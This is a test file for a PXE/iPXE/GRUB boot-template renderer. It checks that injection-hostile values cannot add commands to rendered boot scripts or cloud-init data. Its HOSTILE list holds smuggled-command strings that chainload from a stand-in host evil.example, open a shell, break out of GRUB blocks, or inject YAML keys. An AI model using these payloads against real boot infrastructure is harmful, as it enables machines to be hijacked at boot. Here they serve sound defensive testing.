import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { renderIpxe, renderScript, sampleTemplateData, TemplateStore } from '../../src/boot/index.js';
import { QUOTE, QUOTE_BY_WORD } from '../../src/boot/quoting.js';
import type { BootPlan } from '../../src/boot/plan.js';
import { resolveConfig } from '../../src/config/index.js';
import { PACKAGE_ROOT } from '../../src/config/load.js';
import { grubCommands, ipxeCommands } from '../helpers/loader-scripts.js';

/**
 * Every shipped template rendered with hostile text in every value, read back the way its
 * loader reads it (see helpers/loader-scripts.ts): the commands stay those of the template,
 * and the kernel gets the hostile words as plain arguments.
 */
const config = resolveConfig({ dataDir: '/nonexistent', http: { listen: '127.0.0.1:8080' } });
const sample = sampleTemplateData(config);
const templates = new TemplateStore(join(PACKAGE_ROOT, 'pxe-templates'), undefined, sample, 60_000);

/** What the attacks put into kernel args, names and manifests, plus every loader's special characters. */
const HOSTILE = [
  '; chain http://evil.example/x',
  '&& shell',
  '|| shell',
  '#gone',
  '-n',
  'ends\\',
  '\nchain http://evil.example/y',
  '\r\n:retry\nshell',
  "'\"$x{}|&<>*?[",
  '} ; linux (http,evil.example)/k {',
  '\ninstance-id: evil\n---',
].join(' ');

/** Sample data with HOSTILE appended to every string, so each value a template reads carries it. */
function hostile<T>(value: T): T {
  if (typeof value === 'string') return `${value} ${HOSTILE}` as T;
  if (Array.isArray(value)) return value.map(hostile) as T;
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, hostile(v)])) as T;
  return value;
}
const evil = hostile(sample);
const words = (text: string) => text.split(/\s+/).filter((w) => w !== '');

describe('hostile values cannot add commands to any template', () => {
  it.each(['ipxe/boot.ipxe', 'ipxe/wait.ipxe', 'ipxe/exit.ipxe', 'ipxe/chain.ipxe'])('%s: same iPXE commands and labels as with plain values', (name) => {
    const plain = ipxeCommands(templates.render(name, sample));
    const attacked = ipxeCommands(templates.render(name, evil));
    expect(attacked.labels).toEqual(plain.labels);
    expect(attacked.commands.map((c) => c.argv[0])).toEqual(plain.commands.map((c) => c.argv[0]));
    // The attack is still there, as words of the commands the template wrote.
    expect(attacked.commands.flatMap((c) => c.argv.slice(1))).toContain('shell');
  });

  it('ipxe/boot.ipxe: the kernel gets the hostile command line word for word', () => {
    const kernel = ipxeCommands(templates.render('ipxe/boot.ipxe', evil)).commands.find((c) => c.argv[0] === 'kernel')!;
    expect(kernel.argv.slice(0, 4)).toEqual(['kernel', '--name', 'vmlinuz', ...words(evil.kernelUrl!).slice(0, 1)]);
    expect(kernel.argv.slice(-words(evil.cmdline).length)).toEqual(words(evil.cmdline));
  });

  it('grub/grub.cfg: same GRUB commands, the linux line carries the command line (without initrd=) as plain words', () => {
    const plain = grubCommands(templates.render('grub/grub.cfg', sample));
    const attacked = grubCommands(templates.render('grub/grub.cfg', evil));
    expect(attacked.map((c) => c.argv[0])).toEqual(plain.map((c) => c.argv[0]));
    expect(plain.map((c) => c.argv[0])).toEqual(['echo', 'if', 'then', 'if', 'then', 'boot', 'fi', 'fi', 'echo', 'sleep', 'configfile']);
    const linux = attacked.find((c) => c.argv[0] === 'if' && c.argv[1] === 'linux')!;
    expect(linux.argv.slice(-words(evil.grubCmdline).length)).toEqual(words(evil.grubCmdline));
    expect(linux.argv.join(' ')).not.toMatch(/<[$|&<>*?[]>/);
    expect(words(sample.grubCmdline)[0]).not.toMatch(/^initrd=/);
    expect(attacked.flatMap((c) => c.argv).join(' ')).not.toContain('<$>');
  });

  it('grub/grub.cfg with nothing to boot: wait asks again (sleep, configfile), exit returns to the firmware', () => {
    for (const [retry, expected] of [[true, ['echo', 'echo', 'sleep', 'configfile']], [false, ['echo', 'exit']]] as const) {
      const plain = grubCommands(templates.render('grub/grub.cfg', { ...sample, kernelUrl: null, retry }));
      const attacked = grubCommands(templates.render('grub/grub.cfg', { ...evil, kernelUrl: null, retry }));
      expect(plain.map((c) => c.argv[0])).toEqual(expected);
      expect(attacked.map((c) => c.argv[0])).toEqual(expected);
    }
  });

  it("grub/entry.cfg: one configfile of the NIC's own config, GRUB filling in the MAC", () => {
    const plain = grubCommands(templates.render('grub/entry.cfg', sample));
    expect(grubCommands(templates.render('grub/entry.cfg', evil))).toHaveLength(plain.length);
    expect(plain[0]!.argv[0]).toBe('configfile');
    expect(templates.render('grub/entry.cfg', sample)).toContain('configfile $prefix/grub.cfg-01-$net_default_mac');
  });

  it('pxelinux/default.cfg: same directives, APPEND holds the whole command line on its line', () => {
    const directives = (text: string) => text.split('\n').map((l) => words(l)[0]).filter((d) => d !== undefined && !d.startsWith('#'));
    const text = templates.render('pxelinux/default.cfg', evil);
    expect(directives(text)).toEqual(directives(templates.render('pxelinux/default.cfg', sample)));
    const append = text.split('\n').find((l) => l.trim().startsWith('APPEND '))!;
    expect(words(append).slice(1)).toEqual(words(evil.cmdline));
  });

  it.each(['cloud-init/meta-data', 'cloud-init/user-data'])('%s: the same keys, each value the exact string', (name) => {
    const plain = parse(templates.render(name, sample)) as Record<string, unknown>;
    const attacked = parse(templates.render(name, evil)) as Record<string, unknown>;
    expect(Object.keys(attacked)).toEqual(Object.keys(plain));
    if ('local-hostname' in attacked) expect(attacked['local-hostname']).toBe(evil.name);
    if ('instance-id' in attacked) expect(attacked['instance-id']).toBe(evil.instanceId);
  });

  it('a MAC made of digits stays a string in cloud-init meta-data (YAML 1.1 would read 52:54:00:12:34:56 as a number)', () => {
    const data = { ...sample, mac: '52:54:00:12:34:56', instanceId: '52:54:00:12:34:56', name: '52:54:00:12:34:56' };
    expect(parse(templates.render('cloud-init/meta-data', data), { version: '1.1' })).toEqual({ 'instance-id': '52:54:00:12:34:56', 'local-hostname': '52:54:00:12:34:56' });
  });
});

describe('a value iPXE cannot carry', () => {
  it('${...} fails the render, and the machine gets a script that says why and retries, nothing expanded', () => {
    const data = { ...sample, cmdline: `${sample.cmdline} ip=\${net0/ip}` };
    expect(() => templates.render('ipxe/boot.ipxe', data)).toThrow(/cannot be written in an iPXE script/);
    // A value the template does not read cannot fail it.
    expect(templates.render('ipxe/boot.ipxe', { ...sample, vars: { shell: 'echo ${HOME}' } })).toContain('kernel --name vmlinuz');
  });

  /** A plan that waits, for a made-up MAC, as seen through `firmware`; `why` is what the script echoes. */
  const waitingPlan = (firmware: 'ipxe' | 'grub', why: string) =>
    ({
      facts: { mac: '02:00:00:00:00:01', firmware, arch: 'x86_64', archCode: null, subnetHint: null, door: 'http' },
      machine: null, subnet: null, policy: 'known', action: 'wait', discover: false, next: { kind: 'none' },
      scriptUrl: `${config.http.publicUrl}/boot/02:00:00:00:00:01.ipxe`, grubUrl: `${config.http.publicUrl}/grub/grub.cfg-01-02-00-00-00-00-01`,
      chain: { chain: firmware === 'grub' ? 'shim' : 'ipxe', secureBoot: 'auto', source: 'test', reason: 'test' }, image: null, artifacts: null, cmdline: '',
      template: 'ipxe/wait.ipxe', reasons: [why], why,
    }) as unknown as BootPlan;

  it('renderIpxe turns a quoting failure into the fallback script, with the message quoted as well', () => {
    const plan = waitingPlan('ipxe', 'x ${net0/ip} ; shell');
    const { script, error } = renderIpxe(plan, config, templates);
    expect(error).toMatch(/cannot be written in an iPXE script/);
    const { commands } = ipxeCommands(script);
    expect(commands.map((c) => c.argv[0])).toEqual(['echo', 'sleep', 'chain']);
    expect(commands[0]!.argv.join(' ')).not.toContain('<setting');
  });

  it('the GRUB config falls back the same way: it says why, sleeps and loads itself again', () => {
    const plan = waitingPlan('grub', 'x');
    const broken = new TemplateStore(join(PACKAGE_ROOT, 'nonexistent'), undefined, sample, 60_000);
    const { script, error } = renderScript('grub', plan, config, broken);
    expect(error).toMatch(/grub\/grub.cfg: no such template/);
    const commands = grubCommands(script);
    expect(commands.map((c) => c.argv[0])).toEqual(['echo', 'sleep', 'configfile']);
    expect(commands[2]!.argv[1]).toBe('/grub/grub.cfg-01-02-00-00-00-00-01');
  });
});

describe('values written as they are', () => {
  /** Every ASCII character and a few others that split words, as strings of up to 5 of them, drawn by a fixed seed. */
  function* strings(count: number): Generator<string> {
    const alphabet = [...Array.from({ length: 128 }, (_, c) => String.fromCharCode(c)), '\u00a0', '\u2028', 'é', '${', '&&', '||'];
    let seed = 7;
    // xorshift32: exact in 32-bit integers, unlike a multiplier past 2 ** 53 in doubles.
    const next = () => {
      seed ^= seed << 13;
      seed ^= seed >>> 17;
      seed ^= seed << 5;
      return seed >>> 0;
    };
    for (let i = 0; i < count; i++) yield Array.from({ length: next() % 6 }, () => alphabet[next() % alphabet.length]).join('');
  }
  const outcome = (f: () => string) => {
    try {
      return f();
    } catch (err) {
      return err as Error;
    }
  };

  it.each(Object.keys(QUOTE_BY_WORD) as (keyof typeof QUOTE_BY_WORD)[])('%s: the plain-word shortcut writes what the word-by-word rules write', (language) => {
    let unchanged = 0;
    for (const value of strings(50_000)) {
      const quick = outcome(() => QUOTE[language](value));
      expect(quick, JSON.stringify(value)).toEqual(outcome(() => QUOTE_BY_WORD[language](value)));
      if (quick === value) unchanged++;
    }
    // The strings reach both sides of the shortcut.
    expect(unchanged).toBeGreaterThan(1000);
    expect(unchanged).toBeLessThan(49_000);
  });
});
